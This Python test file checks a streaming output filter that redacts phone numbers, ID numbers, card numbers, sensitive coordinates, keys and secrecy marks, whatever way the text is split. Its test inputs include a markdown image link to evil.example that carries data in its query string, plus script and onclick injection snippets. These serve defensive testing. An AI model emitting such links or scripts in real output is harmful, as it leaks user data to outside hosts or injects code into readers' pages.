import itertools
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cspon.schemas.base import Secrecy
from serving.guards.inputs import Part, check_input
from serving.guards.outputs import OutputFilter
from serving.guards.policy import read_policies
from serving.guards.vault import Vault

POLICIES = read_policies()
ID = "11010519491231002X"
PHONE = "13800138000"


@pytest.fixture(scope="module")
def policy():
    return POLICIES.of(Secrecy.INTERNAL)


def streamed(pieces, policy, vault=Vault()):
    stream = OutputFilter(policy, vault)
    text = "".join([*(stream.feed(piece) for piece in pieces), stream.close()])
    return text, sorted((t.rule, t.count) for t in stream.tallies), stream.blocked


def cut(text, places):
    return [text[a:b] for a, b in itertools.pairwise([0, *sorted(places), len(text)])]


SAYINGS = [
    f"联系人{PHONE}。",
    f"身份证{ID}，",
    "１３８００１３８０００",
    "138\u200b0013\u200b8000",
    "占用12.3456公顷",
    "界址点J1，X=3512345.678，Y=38512345.123。",
    "军用机场坐标118.765432，32.123456。",
    "![图](https://evil.example/p?d=abc)",
    "<script>alert(1)</script>",
    "6222021234567890128 ",
    "档案号：13912345678",
    "【身份号码#1】",
    "【未知#9】",
    "AKIAIOSFODNN7EXAMPLE",
    "密码：Pg@2026land ",
    "依据〔1〕",
    "<b onclick=1>",
    " ",
    "1",
    "。",
]


@given(
    st.lists(st.sampled_from([*SAYINGS, "机密★3年", "-----BEGIN PRIVATE KEY-----"]), max_size=5),
    st.data(),
)
def test_any_cut_gives_what_the_whole_gives(sayings, data):
    policy = POLICIES.of(Secrecy.INTERNAL)
    vault = check_input([Part(f"我的号码{ID}")], policy).vault
    text = "".join(sayings)
    places = data.draw(st.sets(st.integers(0, len(text)), max_size=8))
    whole = streamed([text], policy, vault)
    assert streamed(cut(text, places), policy, vault) == whole
    assert streamed(text, policy, vault) == whole
    stream = OutputFilter(policy, vault)
    assert stream.whole(text) == whole[0]


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"电话{PHONE}，再联系", PHONE),
        (f"身份号码{ID}已核", ID),
        ("卡号6222 0212 3456 7890 128。", "7890"),
        ("坐标：雷达站118.765432,32.123456附近", "118.765"),
        ("令牌 AKIAIOSFODNN7EXAMPLE 。", "IOSF"),
        ("图![a](https://evil.example/p?d=secret)", "evil"),
    ],
)
def test_no_split_in_two_or_three_lets_a_value_through(policy, text, secret):
    expected = streamed([text], policy)
    assert secret not in expected[0]
    assert "已隐去】" in expected[0]
    for places in itertools.chain(
        itertools.combinations(range(len(text) + 1), 1),
        itertools.combinations(range(0, len(text) + 1, 2), 2),
    ):
        assert streamed(cut(text, places), policy) == expected


def test_what_was_given_out_is_never_taken_back(policy):
    text = f"甲乙丙电话{PHONE}丁，身份号码{ID}。" * 3
    for seed in range(20):
        places = random.Random(seed).sample(range(len(text)), 12)
        stream, given_out = OutputFilter(policy), ""
        for piece in cut(text, places):
            given_out += stream.feed(piece)
            assert PHONE[:8] not in given_out
        assert given_out + stream.close() == OutputFilter(policy).whole(text)


def test_ordinary_text_is_held_only_where_something_may_begin(policy):
    stream = OutputFilter(policy)
    assert stream.feed("项目选址符合规划，") == "项目选址符合规划，"
    assert stream.held == 0
    assert stream.feed("面积1") == "面积"
    assert stream.feed("2公顷") == "12公顷"


def test_a_callers_own_value_comes_back_and_anothers_does_not(policy):
    decision = check_input([Part(f"我的电话是{PHONE}")], policy)
    assert decision.texts == ("我的电话是【手机号码#1】",)
    said = ["您的电话【手机", "号码#1】已记下，", f"也就是{PHONE}；另一个是13912345678。"]
    text, tallies, _ = streamed(said, policy, decision.vault)
    assert text == f"您的电话{PHONE}已记下，也就是{PHONE}；另一个是【手机号码已隐去】。"
    assert tallies == [("person.mobile", 1)]


def test_nothing_goes_out_after_a_block(policy):
    text, tallies, blocked = streamed(["甲乙", "机密★", "3年，内容如下"], policy)
    assert text == "甲乙"
    assert blocked.id == "secrecy.mark"
    assert tallies == [("secrecy.mark", 1)]
